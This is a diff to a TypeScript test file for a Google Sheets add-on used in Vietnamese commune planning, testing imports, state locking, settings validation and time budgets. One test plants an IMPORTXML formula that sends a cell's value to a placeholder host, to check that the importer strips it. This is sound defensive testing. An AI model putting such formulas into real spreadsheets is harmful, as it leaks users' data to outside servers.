@@ -3,7 +3,13 @@
  * what the browser sends is checked, uploaded sheets never replace a tab, names stay legal.
  */
 import { SheetsWorkbook } from '../src/server/sheets-port';
-import { IMPORT_CELL_LIMIT, checkLayout, cleanSheetName, createServerApi, uniqueSheetName } from '../src/server/api';
+import type { ServerEnv } from '../src/server/api';
+import { IMPORT_CELL_LIMIT, WORK_BUDGET_MS, checkLayout, cleanSheetName, createServerApi, uniqueSheetName } from '../src/server/api';
+import type { DocumentState } from '../../core/src/port/types';
+import type { SheetLayout } from '../../core/src/layout/types';
+import type { ImportRequest, ImportResult } from '../src/server/entry-points';
+import type { Call } from '../src/sidebar/call';
+import { importRequestRemote } from '../src/sidebar/xlsx-import';
 import { communePlanLayouts } from './data';
 import { buildMenu, errorLine, splitEmails } from '../src/server/menu';
 import { MENU_ITEMS } from '../src/server/entry-points';
@@ -51,6 +57,25 @@ describe('importSheets', () => {
     expect(r).toEqual({ sheets: ['Thôn 1 - I.2 (2)'], forms: { 'Thôn 1 - I.2 (2)': 'I.2' } });
     expect(ss.sheet('Thôn 1 - I.2').getDataRange().getValues()).toEqual([['typed by hand']]);
     expect((await a.validate()).forms).toEqual(expect.arrayContaining([{ sheet: 'Thôn 1 - I.2 (2)', formId: 'I.2' }]));
+  });
+
+  it('writes values only: a formula that is not a plain sum of cells never reaches the spreadsheet', async () => {
+    const { ss, api: a } = api();
+    const [layout] = communeVillages(0, 1);
+    const evil = {
+      ...layout,
+      name: 'Thôn X - I.2',
+      cells: [
+        ...layout.cells,
+        { row: 40, col: 0, value: 'ok', style: 'text' as const, formula: 'IMPORTXML("https://example.invalid/?"&B2,"//a")' },
+        { row: 41, col: 0, value: 7, style: 'number' as const, formula: 'A1+B1' },
+      ],
+    };
+    const r = await a.importSheets({ file: 'thon-x.xlsx', sheets: [{ layout: evil }] });
+    const sheet = ss.sheet(r.sheets[0]);
+    expect(sheet.getRange(41, 1).getFormulas()).toEqual([[""]]);
+    expect(sheet.getRange(41, 1).getValues()).toEqual([["ok"]]);
+    expect(sheet.getRange(42, 1).getFormulas()).toEqual([["=A1+B1"]]);
   });
 
   it('refuses what is not a layout, or too much for one call', async () => {
@@ -130,5 +155,216 @@ describe('the roll-up and the 6-minute limit', () => {
     await expect(a.rollUp({})).rejects.toThrow(/chưa ghi gì\. Hãy để mỗi xã chỉ các trang II\.6\.A, II\.6\.B/);
     expect(ss.getSheets().map((s) => s.getName())).toEqual(before);
     expect(ss.locks.documentLock.held).toBe(false);
+  });
+});
+
+/** The api over `port` (default: SheetsWorkbook on `ss`), with env overrides (clock, budgets). */
+function apiOver(ss: FakeSpreadsheet, port: SheetsWorkbook = new SheetsWorkbook(ss, ss.properties, ss.host()), env: Partial<ServerEnv> = {}) {
+  return createServerApi({
+    port,
+    selectCell: () => undefined,
+    protect: () => Promise.reject(new Error('not used')),
+    now: () => 0,
+    lock: { lockService: ss.locks, flush: () => ss.app.flush() },
+    ...env,
+  });
+}
+
+/** What a test compares to prove nothing was written: the tabs, and the state's properties. */
+function snapshot(ss: FakeSpreadsheet): { sheets: string[]; properties: Record<string, string> } {
+  return { sheets: ss.getSheets().map((sh) => sh.getName()), properties: ss.properties.getProperties() };
+}
+
+/**
+ * SheetsWorkbook on the fake where, right after this execution's first state read, another
+ * execution (another user's sidebar, a consolidation) reads the state, changes it and writes it
+ * whole under the document lock. Holding the lock, it runs at once; when this execution holds the
+ * lock, it waits for its release (run by `releaseWaiting`), as LockService makes it wait.
+ */
+class ContendedWorkbook extends SheetsWorkbook {
+  readonly readsWhileLocked: boolean[] = [];
+  private waiting: (() => Promise<void>)[] = [];
+  private interleaved = false;
+
+  constructor(
+    private readonly fake: FakeSpreadsheet,
+    private readonly other: (s: DocumentState) => DocumentState,
+  ) {
+    super(fake, fake.properties, fake.host());
+  }
+
+  override async readState(): Promise<DocumentState> {
+    const state = await super.readState();
+    this.readsWhileLocked.push(this.fake.locks.documentLock.held);
+    if (!this.interleaved) {
+      this.interleaved = true;
+      const otherPort = new SheetsWorkbook(this.fake, this.fake.properties, this.fake.host());
+      const otherExecution = async () => otherPort.writeState(this.other(await otherPort.readState()));
+      if (this.fake.locks.documentLock.held) this.waiting.push(otherExecution);
+      else await otherExecution();
+    }
+    return state;
+  }
+
+  async releaseWaiting(): Promise<void> {
+    for (const run of this.waiting.splice(0)) await run();
+  }
+}
+
+describe('every read-modify-write of the state under one document lock', () => {
+  const merges = [['thon-1:be-tong', 'thon-2:be-tong']];
+  /** The other execution: a consolidation recording its accepted merges. */
+  const consolidation = (s: DocumentState): DocumentState => ({ ...s, extra: { ...(s.extra ?? {}), acceptedMerges: merges } });
+
+  it.each([
+    ['saveSettings', (a: ReturnType<typeof apiOver>) => a.saveSettings({ level: 'xa', period: '2021-2025', upperLevelName: 'Huyện Bắc Hà', planYear: 2027 })],
+    ['setChecklistTick', (a: ReturnType<typeof apiOver>) => a.setChecklistTick('buoc1', true)],
+    ['setChecklistDates', (a: ReturnType<typeof apiOver>) => a.setChecklistDates('buoc1', { start: '2026-06-01', end: '2026-06-30' })],
+  ])('%s reads the state holding the lock, so a write of another execution meanwhile is not lost', async (_name, run) => {
+    const ss = FakeSpreadsheet.fromArrays({ 'Trang tính1': [] });
+    const port = new ContendedWorkbook(ss, consolidation);
+    const a = apiOver(ss, port);
+    await run(a);
+    expect(port.readsWhileLocked[0]).toBe(true);
+    expect(ss.locks.documentLock.held).toBe(false);
+    // One lock for the whole call: the port's own write nests in it (one tryLock, one flush).
+    expect(ss.locks.documentLock.tries).toHaveLength(1);
+    expect(ss.calls.flush).toBe(1);
+    await port.releaseWaiting();
+    const state = await new SheetsWorkbook(ss, ss.properties, ss.host()).readState();
+    expect(state.extra?.acceptedMerges).toEqual(merges);
+  });
+
+  it('keeps both the settings and the tick of two calls crossing', async () => {
+    const ss = FakeSpreadsheet.fromArrays({ 'Trang tính1': [] });
+    const tickPort = new ContendedWorkbook(ss, (s) => ({ ...s, level: 'xa', period: '2026-2030', upperLevelName: 'Tỉnh Lào Cai', planYear: 2028 }));
+    await apiOver(ss, tickPort).setChecklistTick('buoc2', true);
+    await tickPort.releaseWaiting();
+    const a = apiOver(ss);
+    expect(await a.getSettings()).toMatchObject({ period: '2026-2030', planYear: 2028, upperLevelName: 'Tỉnh Lào Cai' });
+    const state = await new SheetsWorkbook(ss, ss.properties, ss.host()).readState();
+    expect(JSON.stringify(state.extra)).toContain('buoc2');
+  });
+});
+
+describe('settings checked before anything is written', () => {
+  it('refuses a period "1999" or a year out of range with the Vietnamese message, writing nothing', async () => {
+    const ss = FakeSpreadsheet.fromArrays({ 'Trang tính1': [] });
+    const a = apiOver(ss);
+    await a.saveSettings({ level: 'xa', period: '2021-2025', upperLevelName: 'Huyện', planYear: 2027 });
+    const before = snapshot(ss);
+    const tries = ss.locks.documentLock.tries.length;
+    await expect(a.saveSettings({ level: 'xa', period: '1999', upperLevelName: 'Huyện' } as never)).rejects.toThrow(
+      'Giai đoạn chương trình "1999" không hợp lệ: phải là 2016-2020, 2021-2025 hoặc 2026-2030.',
+    );
+    await expect(a.saveSettings({ level: 'xa', period: '2021-2025', upperLevelName: 'Huyện', planYear: 1999 })).rejects.toThrow('Năm kế hoạch 1999 không hợp lệ: phải là số nguyên từ 2000 đến 2100.');
+    await expect(a.saveSettings({ level: 'xa', period: '2021-2025', upperLevelName: 'Huyện', colour: 'red' } as never)).rejects.toThrow('Cài đặt không có mục "colour".');
+    expect(snapshot(ss)).toEqual(before);
+    expect(ss.locks.documentLock.tries).toHaveLength(tries);
+    expect(await a.getSettings()).toMatchObject({ period: '2021-2025', planYear: 2027 });
+  });
+
+  it('reads a damaged state without its bad fields: defaults shown, consolidation runs, the state repaired', async () => {
+    const ss = FakeSpreadsheet.fromArrays({ 'Trang tính1': [] });
+    const raw = new SheetsWorkbook(ss, ss.properties, ss.host());
+    const a = apiOver(ss, raw);
+    await a.importSheets({ file: 'thon.xlsx', sheets: communeVillages(0, 2).map((layout) => ({ layout, formId: 'I.2' as const })) });
+    const sound = await raw.readState();
+    await raw.writeState({ ...sound, period: '1999', planYear: 'abc', level: 'xa', sheetForms: { ...sound.sheetForms, 'Trang tính1': 'Z.9' }, extra: 'hỏng' } as never);
+    expect(await a.getSettings()).toEqual({ level: 'xa', period: '2016-2020', upperLevelName: 'Huyện' });
+    const view = await a.consolidate();
+    expect(view.sheets).toEqual(expect.arrayContaining(['II.4.B', 'II.6.B']));
+    const after = await raw.readState();
+    expect(after.period).toBe('2016-2020');
+    expect(after.planYear).toBe(2027); // "abc" dropped; the year the villages' I.2 give
+    expect(after.sheetForms?.['Trang tính1']).toBeUndefined();
+    expect(after.sheetForms?.['Thôn 1 - I.2']).toBe('I.2');
+  });
+});
+
+describe('consolidate and importSheets within the 6-minute limit', () => {
+  it('consolidate stops before writing, the spreadsheet unchanged, when reading took past the budget', async () => {
+    const ss = FakeSpreadsheet.fromArrays({ 'Trang tính1': [] });
+    let clock = 0;
+    /** Reading a tab takes 100 s on this clock. */
+    class SlowReads extends SheetsWorkbook {
+      override async readSheets(...args: Parameters<SheetsWorkbook['readSheets']>) {
+        clock += 100_000 * args[0].length;
+        return super.readSheets(...args);
+      }
+    }
+    const a = apiOver(ss, new SlowReads(ss, ss.properties, ss.host()), { now: () => clock });
+    await a.importSheets({ file: 'thon.xlsx', sheets: communeVillages(0, 3).map((layout) => ({ layout, formId: 'I.2' as const })) });
+    const before = snapshot(ss);
+    clock = 0;
+    await expect(a.consolidate()).rejects.toThrow(/giới hạn 6 phút của Google; kế hoạch chưa thay đổi \(chưa ghi gì\)\. Hãy tổng hợp ít trang hơn/);
+    expect(snapshot(ss)).toEqual(before);
+    expect(ss.locks.documentLock.held).toBe(false);
+    // Within the budget the same consolidation writes the plan.
+    clock = 0;
+    const done = await apiOver(ss, new SlowReads(ss, ss.properties, ss.host()), { now: () => clock, workBudgetMs: 10 * WORK_BUDGET_MS }).consolidate();
+    expect(done.sheets).toEqual(expect.arrayContaining(['II.4.A', 'II.4.B', 'II.6.A', 'II.6.B', 'II.6.C']));
+  });
+
+  /** SheetsWorkbook where creating a sheet takes `ms` on the clock. */
+  function slowCreates(ss: FakeSpreadsheet, clock: { t: number }, ms: number): SheetsWorkbook {
+    class SlowCreates extends SheetsWorkbook {
+      override async createSheet(...args: Parameters<SheetsWorkbook['createSheet']>) {
+        clock.t += ms;
+        return super.createSheet(...args);
+      }
+    }
+    return new SlowCreates(ss, ss.properties, ss.host());
+  }
+
+  const villages = (n: number) => communeVillages(0, n).map((layout) => ({ layout, formId: 'I.2' as const }));
+
+  it('importSheets out of time before its first sheet writes nothing and says which sheets were not written', async () => {
+    const ss = FakeSpreadsheet.fromArrays({ 'Trang tính1': [] });
+    const clock = { t: 0 };
+    class SlowList extends SheetsWorkbook {
+      override async listSheets() {
+        clock.t += WORK_BUDGET_MS + 1;
+        return super.listSheets();
+      }
+    }
+    const a = apiOver(ss, new SlowList(ss, ss.properties, ss.host()), { now: () => clock.t });
+    const before = snapshot(ss);
+    const r = await a.importSheets({ file: 'thon.xlsx', sheets: villages(2) });
+    expect(r).toEqual({ sheets: [], forms: {}, notCreated: ['Thôn 1 - I.2', 'Thôn 2 - I.2'], message: expect.stringContaining('chưa ghi trang nào; 2 trang chưa ghi (Thôn 1 - I.2, Thôn 2 - I.2)') });
+    expect(r.message).toMatch(/Mỗi trang được ghi trọn vẹn hoặc không ghi gì/);
+    expect(snapshot(ss)).toEqual(before);
+    expect(ss.locks.documentLock.held).toBe(false);
+  });
+
+  it('importSheets writes whole sheets while time remains, records only those, and the sidebar sends the rest in new calls', async () => {
+    const ss = FakeSpreadsheet.fromArrays({ 'Trang tính1': [] });
+    const clock = { t: 0 };
+    const a = apiOver(ss, slowCreates(ss, clock, 200_000), { now: () => clock.t });
+    const request: ImportRequest = { file: 'thon.xlsx', sheets: villages(3) };
+    const first = await a.importSheets(request);
+    expect(first.sheets).toEqual(['Thôn 1 - I.2']);
+    expect(first.notCreated).toEqual(['Thôn 2 - I.2', 'Thôn 3 - I.2']);
+    expect(first.message).toMatch(/^Tệp "thon\.xlsx": đã ghi 1 trang \(Thôn 1 - I\.2\); 2 trang chưa ghi/);
+    expect((await a.exportData()).state.sheetForms).toEqual({ 'Thôn 1 - I.2': 'I.2' });
+    expect(ss.getSheets().map((sh) => sh.getName())).toEqual(['Trang tính1', 'Thôn 1 - I.2']);
+
+    // The sidebar continues: one new call per sheet here (each call has its own 6 minutes).
+    const calls: ImportRequest[] = [];
+    const call = ((name: string, req: ImportRequest): Promise<ImportResult> => {
+      expect(name).toBe('importSheets');
+      calls.push(req);
+      return a.importSheets(req);
+    }) as unknown as Call;
+    const rest: ImportRequest = { file: 'thon.xlsx', sheets: request.sheets.slice(1) };
+    expect(await importRequestRemote(call, rest)).toEqual(['Thôn 2 - I.2', 'Thôn 3 - I.2']);
+    expect(calls.map((c) => c.sheets.map((sh) => sh.layout.name))).toEqual([['Thôn 2 - I.2', 'Thôn 3 - I.2'], ['Thôn 3 - I.2']]);
+    expect((await a.exportData()).state.sheetForms).toEqual({ 'Thôn 1 - I.2': 'I.2', 'Thôn 2 - I.2': 'I.2', 'Thôn 3 - I.2': 'I.2' });
+  });
+
+  it('the sidebar stops with the message when a call could write no sheet', async () => {
+    const layout = { name: 'A' } as SheetLayout;
+    const call = (() => Promise.resolve({ sheets: [], forms: {}, notCreated: ['A'], message: 'Tệp "a.xlsx": chưa ghi trang nào.' })) as unknown as Call;
+    await expect(importRequestRemote(call, { file: 'a.xlsx', sheets: [{ layout }] }, ['Thôn 1 - I.2'])).rejects.toThrow('Tệp "a.xlsx": chưa ghi trang nào. Các trang đã tạo: Thôn 1 - I.2.');
   });
 });
